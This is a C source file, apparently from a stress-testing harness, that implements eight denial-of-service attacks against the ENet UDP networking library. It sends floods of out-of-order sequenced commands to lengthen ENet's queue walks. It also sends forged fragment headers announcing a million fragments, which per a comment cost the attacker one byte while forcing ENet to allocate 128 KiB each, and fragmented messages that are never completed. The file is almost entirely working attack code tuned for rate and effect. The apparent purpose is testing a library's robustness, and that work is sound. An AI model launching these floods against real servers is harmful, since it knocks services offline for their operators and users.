/// attack/order.c - one connected peer against ENet's queues: out-of-order commands that make list
/// walks long, and fragments that make buffers large.

#include "peer.h"

#define SEQUENCES 28000 // ahead of what was delivered: ENet keeps seven windows of 4096
#define PER_S     200   // datagrams of about 1,300 bytes: 265 kB/s
#define FIRST     60
#define CHANNEL   0

/// Writes one datagram; `turn` counts them.
typedef void write_t(peer_t *peer, datagram_t *out, uint32_t turn);

/// Connects one peer and sends datagrams at a rate, the first of them at once, as if the attack had
/// lasted for a while; connects again whenever it is dropped.
static void send_at(attack_t *attack, bool joins, double per_s, write_t *write) {
    peer_t peer = {.host = LOOPBACK(50, 0, 1), .joins = joins};
    pace_t pace = {.per_s = per_s};
    datagram_t out;
    uint32_t turn = 0;
    while (Attack_Runs(attack, 2)) {
        uint32_t due = Pace_Take(&pace, attack, 32);
        if (Peer_StepAll(attack, &peer, 1) == 0) {
            continue;
        }
        due += turn == 0 ? FIRST : 0;
        for (uint32_t i = 0; i < due; i++) {
            Peer_Begin(&peer, &out);
            write(&peer, &out, turn++);
            Peer_Send(attack, &peer, &out);
        }
    }
    Peer_CloseAll(attack, &peer, 1);
}

/// The n-th sequence number of a descending row that never reaches the next one to deliver.
static uint32_t descending(const peer_t *peer, uint32_t n) {
    return peer->sequence[CHANNEL] + 2 + (SEQUENCES - 1 - n % SEQUENCES);
}

static void write_reliable(peer_t *peer, datagram_t *out, uint32_t turn) {
    for (uint32_t i = 0; i < 220; i++) {
        Wire_Reliable(out, CHANNEL, descending(peer, turn * 220 + i), 0);
    }
}

static void write_unreliable(peer_t *peer, datagram_t *out, uint32_t turn) {
    for (uint32_t i = 0; i < 160; i++) {
        uint32_t n = turn * 160 + i;
        Wire_Unreliable(out, CHANNEL, descending(peer, n / 16), 60000 - n % 30000, 0);
    }
}

static void sort_reliable(attack_t *attack) {
    send_at(attack, true, PER_S, write_reliable);
}

static void sort_unreliable(attack_t *attack) {
    send_at(attack, true, PER_S, write_unreliable);
}

static void sort_unjoined(attack_t *attack) {
    send_at(attack, false, PER_S, write_reliable);
}

// Few commands a datagram and few ahead, as a filter lets through, but as many as possible.
static void write_polite(peer_t *peer, datagram_t *out, uint32_t turn) {
    for (uint32_t i = 0; i < 30; i++) {
        uint32_t n = turn * 30 + i;
        Wire_Reliable(out, CHANNEL, peer->sequence[CHANNEL] + 2 + 240 - n % 240, 1);
        Wire_U8(out, 0);
    }
}

static void sort_in_window(attack_t *attack) {
    send_at(attack, true, 600, write_polite);
}

// ENet allocates a bitmask of 128 KiB for a million announced fragments, and charges one byte.
static void write_lie(peer_t *peer, datagram_t *out, uint32_t turn) {
    for (uint32_t i = 0; i < 24; i++) {
        uint32_t sequence = peer->sequence[CHANNEL] + 2 + (turn * 24 + i) % SEQUENCES;
        fragment_t fragment = {.sequence = (uint16_t)sequence,
                               .start = (uint16_t)sequence,
                               .count = 1024 * 1024,
                               .total = 1,
                               .length = 1};
        Wire_Fragment(out, ENET_FRAGMENT, CHANNEL, &fragment);
        Wire_Reliable(out, 1, descending(peer, turn * 24 + i), 0);
    }
}

static void exhaust(attack_t *attack) {
    send_at(attack, true, 200, write_lie);
}

static void exhaust_unjoined(attack_t *attack) {
    send_at(attack, false, 200, write_lie);
}

static void write_unreliable_lie(peer_t *peer, datagram_t *out, uint32_t turn) {
    for (uint32_t i = 0; i < 48; i++) {
        fragment_t fragment = {.sequence = (uint16_t)peer->sequence[CHANNEL],
                               .start = (uint16_t)(1 + turn * 48 + i),
                               .count = 1024 * 1024,
                               .total = 1,
                               .length = 1};
        Wire_Fragment(out, ENET_UNRELIABLE_FRAGMENT, CHANNEL, &fragment);
    }
}

static void exhaust_unreliable(attack_t *attack) {
    send_at(attack, true, 200, write_unreliable_lie);
}

// The first fragments of messages of 8 KiB, each as the protocol allows it; none is ever complete.
static void write_open_set(peer_t *peer, datagram_t *out, uint32_t turn) {
    uint32_t start = peer->sequence[CHANNEL] + 2 + turn * 6 % (SEQUENCES - 6);
    fragment_t fragment = {.sequence = (uint16_t)start,
                           .start = (uint16_t)start,
                           .count = 6,
                           .total = 8192,
                           .length = 1366};
    Wire_Fragment(out, ENET_FRAGMENT, CHANNEL, &fragment);
}

static void fragments_open(attack_t *attack) {
    send_at(attack, true, 400, write_open_set);
}

const attack_row_t order_rows[] = {
    {"sort-reliable", sort_reliable},
    {"sort-unreliable", sort_unreliable},
    {"sort-unjoined", sort_unjoined},
    {"sort-in-window", sort_in_window},
    {"exhaust", exhaust},
    {"exhaust-unjoined", exhaust_unjoined},
    {"exhaust-unreliable", exhaust_unreliable},
    {"fragments-open", fragments_open},
    {0},
};
